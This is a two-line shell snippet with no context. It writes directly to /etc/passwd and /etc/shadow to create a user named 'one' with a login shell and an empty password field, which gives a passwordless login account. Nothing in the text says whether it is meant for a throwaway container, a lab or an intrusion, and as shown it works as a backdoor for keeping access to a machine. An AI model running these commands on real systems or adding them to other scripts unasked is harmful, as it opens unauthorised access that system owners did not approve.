echo 'one:x:4711:100::/:/bin/sh' >> /etc/passwd
echo 'one::19000:0:99999:7:::' >> /etc/shadow
